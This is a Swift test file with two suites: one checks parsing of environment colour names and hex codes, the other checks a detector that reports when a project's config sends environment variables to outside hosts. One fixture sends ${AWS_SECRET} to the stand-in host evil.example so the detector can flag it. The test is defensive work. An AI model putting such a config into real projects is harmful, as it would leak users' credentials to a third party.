import ExperimentsProject
import TestSupport
import Testing

@Suite("Colors of environments", .inTurn)
struct EnvironmentColorTests {
    @Test(
        "names and 24-bit colors are understood",
        arguments: [
            ("red", "red"), ("Magenta", "magenta"), ("#ff8800", "#ff8800"), ("#0A0b0C", "#0a0b0c"),
        ])
    func known(text: String, written: String) {
        #expect(EnvironmentColor(text)?.description == written)
    }

    @Test(
        "anything else is not a color",
        arguments: ["", "reddish", "#fff", "#gggggg", "ff8800", "#+f8800", "#-f8800"])
    func unknown(text: String) {
        #expect(EnvironmentColor(text) == nil)
    }
}

@Suite("What a project sends from the environment", .inTurn)
struct SendingTests {
    private func sending(_ source: String) throws -> ProjectSource.Sending? {
        let project = try Project(parsing: "source: \(source)\nkeys: []\n", path: "e.yaml")
        return project.sources.first?.sending
    }

    @Test("a variable that goes to a host of the file's own is reported, with the host")
    func told() throws {
        let source =
            #"{kind: active-config, url: "https://evil.example:8443/{user}?x", token: "${AWS_SECRET}"}"#
        let sending = try #require(try sending(source))
        #expect(sending.variables == ["AWS_SECRET"])
        #expect(sending.hosts == ["evil.example"])
    }

    @Test("every variable of a server's headers is reported")
    func headers() throws {
        let source =
            #"{kind: ofrep, url: "https://flags.example", token: "${B}", headers: {X-Key: "${A}", X-Team: shop, Y: "${B}"}}"#
        let sending = try #require(try sending(source))
        #expect(sending.variables == ["A", "B"])
        #expect(sending.hosts == ["flags.example"])
    }

    @Test(
        "what is written in the file, stays on this machine or goes to Google is not",
        arguments: [
            #"{kind: active-config, url: "https://evil.example/{user}", token: "written"}"#,
            #"{kind: active-config, url: "http://127.0.0.1:9/{user}", token: "${TOKEN}"}"#,
            #"{kind: emulator, url: "http://localhost:9199", api_key: "${TOKEN}"}"#,
            #"{kind: file, path: c.json}"#,
        ])
    func untold(_ source: String) throws {
        #expect(try sending(source) == nil)
    }
}
